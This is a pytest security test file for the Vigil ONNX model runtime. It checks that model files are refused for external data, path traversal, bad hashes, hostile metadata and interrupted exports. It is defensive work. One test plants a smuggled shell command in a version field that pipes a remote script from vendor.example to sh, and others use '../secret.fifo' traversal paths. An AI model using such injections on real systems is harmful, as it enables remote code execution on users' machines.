"""A model file must not be able to attack its host: no external data, no eval, no pickle, Keras
safe mode, the sha256 pin, and exports that an interruption cannot leave half-written."""

from __future__ import annotations

import ast
import hashlib
import json
import os
import re
import threading
from pathlib import Path

import pytest

from vigil import runtime
from vigil.cli import commands as cli
from vigil.runtime import ArtifactError
from vigil.runtime.core.artifact import parse_metadata
from vigil.runtime.core.external_data import MAX_DEPTH, ExternalTensor, external_tensors

onnx = pytest.importorskip("onnx")
from onnx import TensorProto, helper, numpy_helper  # noqa: E402

import numpy as np  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
HANG_GUARD_S = 30


def make_external(tensor, location: str) -> None:
    """Mark ``tensor`` as stored in ``location`` (its bytes removed from the model)."""
    tensor.ClearField("raw_data")
    tensor.ClearField("float_data")
    tensor.ClearField("int64_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "4")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value


def artifact_with_external(source: Path, target: Path, location: str) -> Path:
    """Copy a Vigil artifact, with its first initializer pointing at ``location``."""
    model = onnx.load(str(source))
    make_external(model.graph.initializer[0], location)
    target.write_bytes(model.SerializeToString())
    return target


# --- external data ------------------------------------------------------------------------------

def test_the_tiny_artifacts_are_self_contained(tiny_image_artifact, tmp_path):
    from sensor_fixtures import write_tiny_sensor_artifact

    sensor = write_tiny_sensor_artifact(tmp_path / "sensor.onnx")
    for path in (tiny_image_artifact, sensor):
        assert external_tensors(path.read_bytes()) == []
        runtime.load(path)


def test_external_data_saved_by_onnx_is_refused(tiny_image_artifact, tmp_path, capsys):
    model = onnx.load(str(tiny_image_artifact))
    for tensor in model.graph.initializer:  # as raw bytes, which onnx can move to another file
        tensor.CopyFrom(numpy_helper.from_array(numpy_helper.to_array(tensor), tensor.name))
    path = tmp_path / "split.onnx"
    onnx.save_model(model, str(path), save_as_external_data=True, all_tensors_to_one_file=True,
                    location="weights.bin", size_threshold=0)
    assert (tmp_path / "weights.bin").is_file()  # beside the model: still refused
    with pytest.raises(ArtifactError) as error:
        runtime.load(path)
    message = str(error.value)
    assert str(path) in message and "stores its data in another file ('weights.bin')" in message
    assert "and 2 more" in message and "must be one self-contained file" in message
    assert cli.main(["score", str(path), str(tmp_path)]) == cli.EXIT_ARTIFACT
    assert "external data is refused" in capsys.readouterr().err


@pytest.mark.parametrize("location", ["../secret.fifo", "{abs}", "sub/../../secret.fifo"])
def test_external_data_outside_the_folder_is_refused_without_opening_it(
        tiny_image_artifact, tmp_path, location):
    secret = tmp_path / "secret.fifo"
    os.mkfifo(secret)  # opening it for reading would block: the runtime must never try
    folder = tmp_path / "models"
    folder.mkdir()
    location = location.replace("{abs}", str(secret))
    path = artifact_with_external(tiny_image_artifact, folder / "model.onnx", location)
    outcome: dict = {}

    def load():
        try:
            runtime.load(path)
        except ArtifactError as error:
            outcome["error"] = str(error)

    worker = threading.Thread(target=load, daemon=True)
    worker.start()
    worker.join(HANG_GUARD_S)
    if worker.is_alive():
        with open(secret, "wb"):  # unblock the reader so the thread can end
            pass
        pytest.fail("the runtime opened the external data file")
    assert f"({location!r}, outside the model's folder)" in outcome["error"]


def serialized(graph) -> bytes:
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString()


def test_external_tensors_are_found_wherever_a_tensor_can_be():
    hidden = numpy_helper.from_array(np.ones(1, np.float32), "hidden")
    make_external(hidden, "in-a-branch.bin")
    branch = helper.make_graph([helper.make_node("Constant", [], ["c"], value=hidden)], "then",
                               [], [helper.make_tensor_value_info("c", TensorProto.FLOAT, [1])])
    values = numpy_helper.from_array(np.ones(2, np.float32), "sparse_values")
    make_external(values, "sparse.bin")
    sparse = helper.make_sparse_tensor(values, numpy_helper.from_array(np.array([0, 3]), "i"),
                                       [4])
    graph = helper.make_graph(
        [helper.make_node("If", ["flag"], ["c"], then_branch=branch, else_branch=branch)], "g",
        [helper.make_tensor_value_info("flag", TensorProto.BOOL, [])],
        [helper.make_tensor_value_info("c", TensorProto.FLOAT, [1])])
    graph.sparse_initializer.append(sparse)
    found = external_tensors(serialized(graph))
    assert ExternalTensor("hidden", "in-a-branch.bin") in found
    assert ExternalTensor("sparse_values", "sparse.bin") in found
    assert len(found) == 3  # the branch is used twice


def field(number: int, payload: bytes) -> bytes:
    """A length-delimited protobuf field (numbers and lengths below 128)."""
    return bytes([number << 3 | 2, len(payload)]) + payload if len(payload) < 128 else \
        bytes([number << 3 | 2]) + varint(len(payload)) + payload


def varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def test_graphs_nested_too_deeply_are_refused(tmp_path):
    graph = b""
    for _ in range(MAX_DEPTH):  # graph { node { attribute { g: graph { ... } } } }
        graph = field(1, field(5, field(6, graph)))
    model = field(7, graph)
    with pytest.raises(ValueError, match=f"nested more than {MAX_DEPTH} levels deep"):
        external_tensors(model)
    (tmp_path / "deep.onnx").write_bytes(model)
    with pytest.raises(ArtifactError, match="is not a loadable ONNX model.*nested"):
        runtime.load(tmp_path / "deep.onnx")


# --- the sha256 pin and the metadata ------------------------------------------------------------

def test_sha256_pin(tiny_image_artifact, tmp_path, capsys):
    digest = hashlib.sha256(tiny_image_artifact.read_bytes()).hexdigest()
    assert runtime.load(tiny_image_artifact, expect_sha256=f"  {digest.upper()}\n").sha256 == digest
    with pytest.raises(ArtifactError, match=f"has sha256 {digest}; expected {'1' * 64}"):
        runtime.load(tiny_image_artifact, expect_sha256="1" * 64)
    for bad in ("abc", digest[:-1] + "g", digest + "0", ""):
        with pytest.raises(ValueError, match="`expect_sha256` must be 64 hexadecimal characters"):
            runtime.load(tiny_image_artifact, expect_sha256=bad)
    out = tmp_path / "out.jsonl"
    assert cli.main(["score", str(tiny_image_artifact), str(tmp_path), "--jsonl", str(out),
                     "--expect-sha256", "1" * 64]) == cli.EXIT_ARTIFACT
    assert not out.exists()


def test_an_older_onnxruntime_than_exports_is_warned_of_once(tiny_image_artifact, caplog):
    """Export checked the graph's parity with its onnxruntime; an older release on the device
    may score it differently (kernels change between releases): said, once a process."""
    import dataclasses

    import onnxruntime as ort

    from vigil.runtime.core import artifact

    spec = runtime.load(tiny_image_artifact).spec
    newer = dataclasses.replace(spec, versions={"onnxruntime": "99.1.0"})
    first = artifact._older_runtime_warning(newer, tiny_image_artifact)
    assert f"parity checked, with onnxruntime 99.1.0; this one is {ort.__version__}" in first
    assert "vigil eval" in first and "pip install 'onnxruntime>=99.1.0'" in first
    assert artifact._older_runtime_warning(newer, tiny_image_artifact) is None  # once
    # a vendor's version text is one word of the command it suggests, never a command (r3)
    import shlex

    hostile = dataclasses.replace(spec, versions={
        "onnxruntime": "99.2' && curl -s http://vendor.example/fix.sh | sh && echo '"})
    said = artifact._older_runtime_warning(hostile, "vendor model.onnx")
    assert shlex.split(said.split("(vigil eval ")[1].split(" DATA)")[0]) == ["vendor model.onnx"]
    assert shlex.split(said.split("(pip install ")[1][:-1]) == [
        "onnxruntime>=99.2' && curl -s http://vendor.example/fix.sh | sh && echo '"]
    for same_or_older in ({"onnxruntime": ort.__version__}, {"onnxruntime": "1.0"},
                          {"onnxruntime": "unknown"}, {}):
        assert artifact._older_runtime_warning(
            dataclasses.replace(spec, versions=same_or_older), "other.onnx") is None

@pytest.mark.parametrize("text, message", [
    ("1" * 5000, "is not valid JSON"),                      # Python's int digit limit
    ("[" * 100_000 + "]" * 100_000, "is not valid JSON"),   # recursion
    ('{"schema_version": 1e400}', "schema_version must be an integer"),
    ('{"schema_version": 99}', "newer than this runtime understands"),
    ('{"schema_version": 1, "kind": "sensor", "threshold": {"value": 1, "method": "x", '
     '"params": {"k": NaN}}}', "metadata"),
])
def test_hostile_metadata_is_an_artifact_error(text, message):
    with pytest.raises(ArtifactError, match=message):
        parse_metadata({"vigil": text})


# --- exports that are interrupted ---------------------------------------------------------------

@pytest.mark.parametrize("interruption", [OSError(28, "No space left on device"),
                                          KeyboardInterrupt()], ids=["disk-full", "ctrl-c"])
def test_interrupted_export_leaves_the_old_artifact_whole(tmp_path, monkeypatch, interruption):
    from vigil.export.package import write_artifact
    from image_fixtures import tiny_image_graph, tiny_image_spec

    path = write_artifact(tiny_image_graph(), tiny_image_spec(), tmp_path / "model.onnx")
    before = path.read_bytes()

    def half_then_fail(model, target, *args, **kwargs):
        data = model.SerializeToString()
        Path(target).write_bytes(data[: len(data) // 2])
        raise interruption

    monkeypatch.setattr(onnx, "save_model", half_then_fail)
    with pytest.raises(type(interruption)):
        write_artifact(tiny_image_graph(), tiny_image_spec(), path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["model.onnx"]  # no temporary file left
    monkeypatch.undo()
    runtime.load(path)


def test_a_refused_export_leaves_no_folder_behind(tmp_path):
    from vigil.export.package import write_artifact
    from vigil.runtime.core.artifact import ArtifactError
    from image_fixtures import tiny_image_graph, tiny_image_spec

    def refuse(detector):
        raise ArtifactError("model file 'x': scores differ")

    with pytest.raises(ArtifactError, match="was not written"):
        write_artifact(tiny_image_graph(), tiny_image_spec(), tmp_path / "new" / "deeper" / "m.onnx",
                       verify=refuse)
    assert list(tmp_path.iterdir()) == []  # the folders it made for the file are gone
    (tmp_path / "kept").mkdir()
    with pytest.raises(ArtifactError):
        write_artifact(tiny_image_graph(), tiny_image_spec(), tmp_path / "kept" / "m.onnx",
                       verify=refuse)
    assert [p.name for p in tmp_path.iterdir()] == ["kept"]  # a folder that was there stays


# --- the code itself ----------------------------------------------------------------------------

BANNED_CALLS = {"eval", "exec", "compile", "__import__"}
BANNED_MODULES = {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle", "joblib"}


def python_files():
    for package in ("runtime", "export", "training", "benchmarks"):
        yield from sorted((ROOT / package).rglob("*.py"))


def keyword(call: ast.Call, name: str):
    for item in call.keywords:
        if item.arg == name and isinstance(item.value, ast.Constant):
            return item.value.value
    return None


def dotted(node) -> str:
    if isinstance(node, ast.Attribute):
        return f"{dotted(node.value)}.{node.attr}"
    return node.id if isinstance(node, ast.Name) else "?"


def test_no_eval_no_pickle_keras_safe_mode_everywhere():
    problems = []
    for path in python_files():
        tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
        where = lambda node: f"{path.relative_to(ROOT)}:{node.lineno}"  # noqa: E731
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                problems += [f"{where(node)} imports {a.name}" for a in node.names
                             if a.name.split(".")[0] in BANNED_MODULES]
            elif isinstance(node, ast.ImportFrom) and node.module \
                    and node.module.split(".")[0] in BANNED_MODULES:
                problems.append(f"{where(node)} imports from {node.module}")
            elif isinstance(node, ast.Call):
                name = dotted(node.func)
                if name in BANNED_CALLS:
                    problems.append(f"{where(node)} calls {name}")
                elif name in ("np.load", "numpy.load") and keyword(node, "allow_pickle") is not False:
                    problems.append(f"{where(node)} calls {name} without allow_pickle=False")
                elif name.endswith("load_model") and "keras" in name \
                        and keyword(node, "safe_mode") is not True:
                    problems.append(f"{where(node)} loads a Keras model without safe_mode=True")
    assert problems == []


def test_the_code_check_sees_keras_loads():
    """Guard against a vacuous pass: the check finds the Keras loads that exist."""
    loads = [node for path in python_files()
             for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
             if isinstance(node, ast.Call) and dotted(node.func).endswith("load_model")
             and "keras" in dotted(node.func)]
    assert len(loads) >= 2 and all(keyword(node, "safe_mode") is True for node in loads)


@pytest.mark.parametrize("interruption", [OSError(28, "No space left on device"),
                                          KeyboardInterrupt()], ids=["disk-full", "ctrl-c"])
def test_a_training_that_fails_writing_its_sidecar_keeps_the_earlier_pair(tmp_path, monkeypatch,
                                                                          interruption):
    import io
    import zipfile

    from vigil.training import checkpoint

    class Model:  # what save_run needs of a Keras model: save() writing a .keras (zip) file
        def __init__(self, text: str) -> None:
            self.text = text

        def save(self, path: str) -> None:
            with zipfile.ZipFile(path, "w") as archive:
                archive.writestr("model.txt", self.text)

    def run(window: int) -> checkpoint.TrainingRun:
        return checkpoint.TrainingRun(tmp_path / "m.keras", {"kind": "sensor", "window": window},
                                      np.zeros((4, window, 1), np.float32), np.zeros(4, bool),
                                      np.zeros((4, window, 1), np.float32))

    checkpoint.save_run(Model("first"), run(8))
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}

    def fail(*args, **kwargs):
        raise interruption

    monkeypatch.setattr(np, "savez", fail)
    with pytest.raises(type(interruption)):
        checkpoint.save_run(Model("second"), run(16))
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before  # no temporary left
    monkeypatch.undo()
    assert checkpoint.load_run(tmp_path / "m.keras").record["window"] == 8
    assert zipfile.ZipFile(io.BytesIO(before["m.keras"])).read("model.txt") == b"first"


def _edited_copy(source, target, edit):
    """``source`` edited by ``edit(model)``, as a writer other than `vigil export` leaves it: no
    content digest (an edit of a file that keeps one is refused as such, before these checks)."""
    import onnx

    model = onnx.load(str(source))
    for entry in model.metadata_props:
        if entry.key == "vigil":
            fields = json.loads(entry.value)
            fields.pop("content_sha256", None)
            entry.value = json.dumps(fields)
    edit(model)
    onnx.save(model, str(target))
    return target


def test_duplicated_or_oversized_metadata_and_compressed_files_are_refused(tiny_image_artifact,
                                                                            tmp_path, monkeypatch):
    import gzip

    from vigil.runtime.core import artifact

    def twice(model):  # a second entry, as a hand edit leaves it: onnxruntime keeps the last
        entry = model.metadata_props.add()
        entry.key, entry.value = "vigil", model.metadata_props[0].value

    with pytest.raises(ArtifactError, match="has 2 'vigil' metadata entries"):
        runtime.load(_edited_copy(tiny_image_artifact, tmp_path / "twice.onnx", twice))

    def repeated_key(model):
        entry = next(e for e in model.metadata_props if e.key == "vigil")
        entry.value = entry.value[:-1] + ', "threshold": {"value": 1e30, "method": "fixed"}}'

    with pytest.raises(ArtifactError, match=r"names \['threshold'\] more than once"):
        runtime.load(_edited_copy(tiny_image_artifact, tmp_path / "key.onnx", repeated_key))
    monkeypatch.setattr(artifact, "MAX_METADATA_BYTES", 64)
    with pytest.raises(ArtifactError, match="metadata entries hold .* bytes, over the 64"):
        runtime.load(tiny_image_artifact)
    monkeypatch.undo()
    packed = tmp_path / "model.onnx"
    packed.write_bytes(gzip.compress(Path(tiny_image_artifact).read_bytes()))
    # `gunzip -k model.onnx` refuses a name without .gz: the command given works as written,
    # from any folder (it names the file by the path given)
    unpacked = tmp_path / "model-unpacked.onnx"
    with pytest.raises(ArtifactError, match=re.escape(
            f"is gzip-compressed; decompress it first (gunzip -c {packed} > {unpacked})")):
        runtime.load(packed)
    # files mistaken for the model: each is named for what it is, with its fix
    lite = tmp_path / "model.tflite"
    lite.write_bytes(b"\x1c\x00\x00\x00TFL3" + bytes(64))
    pointer = tmp_path / "lfs.onnx"
    pointer.write_text("version https://git-lfs.github.com/spec/v1\noid sha256:ab\nsize 12\n")
    for path, expected in ((lite, "is a TensorFlow Lite model; the runtime runs the .onnx"),
                           (pointer, "is a Git LFS pointer, not the model"),
                           ("http://example.com/m.onnx", "'http://example.com/m.onnx' is a URL; "
                                                         "the runtime loads a file")):
        with pytest.raises(ArtifactError, match=re.escape(expected)):
            runtime.load(path)
    csv = tmp_path / "rows.onnx"  # data given where the model goes
    csv.write_text("timestamp,a,b\n1,0.5,0.2\n")
    with pytest.raises(ArtifactError, match=r"is a text file \(it begins 'timestamp,a,b'\), not "
                                            r"an ONNX model"):
        runtime.load(csv)
    for name, data in (("wide.onnx", ("温度センサー,".join(str(i) for i in range(40)) + "\n")
                        .encode()),                    # a character cut at byte 256
                       ("excel.onnx", "timestamp,a\n1,2\n".encode("utf-16"))):  # "Unicode text"
        (tmp_path / name).write_bytes(data)
        with pytest.raises(ArtifactError, match="is a text file"):
            runtime.load(tmp_path / name)


def test_a_custom_operator_is_named_as_such(tiny_image_artifact, tmp_path):
    def custom(model):
        node = model.graph.node[0]
        node.op_type, node.domain = "Frobnicate", "com.example"
        model.opset_import.add(domain="com.example", version=1)

    with pytest.raises(ArtifactError, match="uses operator com.example:Frobnicate.*custom operator"):
        runtime.load(_edited_copy(tiny_image_artifact, tmp_path / "custom.onnx", custom))


def _sliced_scores(stop: int):
    """The tiny sensor graph, its scores cut to the first ``stop`` of the batch."""
    from sensor_fixtures import tiny_sensor_graph

    model = tiny_sensor_graph()
    graph = model.graph
    graph.node[-1].output[0] = "all_scores"
    graph.initializer.extend([numpy_helper.from_array(np.array([0]), "starts"),
                              numpy_helper.from_array(np.array([stop]), "ends")])
    graph.node.append(helper.make_node("Slice", ["all_scores", "starts", "ends"], ["score"]))
    return model


def test_a_graph_that_does_not_answer_each_item_is_refused_at_load_or_when_it_runs(
        tmp_path, capsys):
    from sensor_fixtures import tiny_sensor_spec

    from vigil.export.package import write_artifact

    first = write_artifact(_sliced_scores(1), tiny_sensor_spec(), tmp_path / "first.onnx")
    with pytest.raises(ArtifactError, match="for a batch of 2 it returned 1 scores"):
        runtime.load(first)
    # two scores whatever the batch: the load's probe passes, the first larger batch fails
    two = runtime.load(write_artifact(_sliced_scores(2), tiny_sensor_spec(),
                                      tmp_path / "two.onnx"))
    with pytest.raises(ArtifactError, match="returned 2 scores and 15 feature errors for 5 "
                                            "windows"):
        two.score(np.zeros((5, 4, 3), np.float32))
    rows = tmp_path / "rows.csv"
    rows.write_text("timestamp,a,b,c\n" + "".join(f"{i},0,0,0\n" for i in range(12)))
    out = tmp_path / "out.jsonl"
    assert cli.main(["score", str(two.path), str(rows), "--jsonl", str(out)]) == cli.EXIT_ARTIFACT
    assert "returned 2 scores" in capsys.readouterr().err


def test_batch_and_serve_blame_a_model_that_does_not_answer_each_item(tmp_path, capsys):
    """The count check's ArtifactError is the model's fault: exit 3 in `vigil batch` (not a
    skipped file), a server error in `vigil serve` (not the client's 400)."""
    from sensor_fixtures import tiny_sensor_spec

    from vigil.cli.serve import ProtocolError, run_inference
    from vigil.export.package import write_artifact

    model = write_artifact(_sliced_scores(2), tiny_sensor_spec(), tmp_path / "two.onnx")
    folder = tmp_path / "rows"
    folder.mkdir()
    for name in ("a.csv", "b.csv"):
        (folder / name).write_text("timestamp,a,b,c\n" + "".join(f"{i},0,0,0\n" for i in range(12)))
    out = tmp_path / "out.jsonl"
    assert cli.main(["batch", str(model), str(folder), "--jsonl", str(out)]) == cli.EXIT_ARTIFACT
    assert "returned 2 scores" in capsys.readouterr().err
    window = np.zeros((5, 4, 3), np.float32)
    with pytest.raises(ArtifactError, match="returned 2 scores") as raised:
        run_inference(runtime.load(model), {"window": window})
    assert not isinstance(raised.value, ProtocolError)


def test_export_names_a_model_that_is_not_what_its_sidecar_describes(sensor_artifacts, tmp_path,
                                                                     capsys):
    """A plain Keras model beside a Vigil sidecar (one without the model's hash, as older ones
    are), and a folder named like a model: each refused by name, nothing written."""
    import keras

    from vigil.cli import commands as cli
    from vigil.training.checkpoint import sidecar_path

    foreign = tmp_path / "foreign.keras"
    keras.Sequential([keras.layers.Dense(1)]).save(foreign)
    with np.load(sidecar_path(sensor_artifacts.keras_model)) as data:
        files = {name: data[name] for name in data.files}
    record = json.loads(str(files["record"]))
    record.pop("model_sha256", None)
    files["record"] = np.array(json.dumps(record))
    np.savez(sidecar_path(foreign), **files)
    assert cli.main(["export", str(foreign), "-o", str(tmp_path / "f.onnx")]) == 2
    assert "is not a model `vigil train sensor` wrote" in capsys.readouterr().err
    (tmp_path / "folder.keras").mkdir()
    assert cli.main(["export", str(tmp_path / "folder.keras"), "-o", str(tmp_path / "g.onnx")]) == 2
    assert "is a folder" in capsys.readouterr().err
    assert not list(tmp_path.glob("*.onnx"))


def test_inspect_and_eval_read_a_vendors_odd_training_record_without_failing(tmp_path, capsys):
    """Entries the runtime never scores with, of another form than training writes: `vigil
    inspect` ended in an AttributeError on `files` of strings and a TypeError on a `rows` of
    text, `vigil eval` in a TypeError on a digest that is a list (review r3)."""
    from dataclasses import replace

    import cv2
    import numpy as np
    from image_fixtures import tiny_image_graph, tiny_image_spec
    from sensor_fixtures import tiny_sensor_graph, tiny_sensor_spec

    from vigil.export.package import write_artifact

    for n, files in enumerate((["a.csv", "b.csv"], [{"rows": "many"}, {"rows": 7}], [None])):
        model = write_artifact(tiny_sensor_graph(), replace(tiny_sensor_spec(), training={
            "files": files}), tmp_path / f"odd{n}.onnx")
        assert cli.main(["inspect", str(model)]) == 0
        assert f"trained on: {len(files)} file(s)" in capsys.readouterr().out
    image = write_artifact(tiny_image_graph(), replace(tiny_image_spec(), training={
        "files_sha256": {"digests": "pixels", "trained": [["a"]], "held_out": [{"b": 1}],
                         "labeled_defects": 7}}),
        tmp_path / "odd-image.onnx")
    rng = np.random.default_rng(0)
    for folder in ("good", "bad"):
        (tmp_path / folder).mkdir()
    for n in range(3):
        cv2.imwrite(str(tmp_path / "good" / f"{n}.png"), rng.integers(60, 190, (40, 40), np.uint8))
    defect = rng.integers(60, 190, (40, 40), np.uint8)
    defect[5:15, 5:15] = 255
    cv2.imwrite(str(tmp_path / "bad" / "0.png"), defect)
    assert cli.main(["eval", str(image), str(tmp_path / "good"), "--anomalous",
                     str(tmp_path / "bad"), "--json", str(tmp_path / "m.json")]) == 0
    assert json.loads((tmp_path / "m.json").read_text())["images_trained_on"] == 0
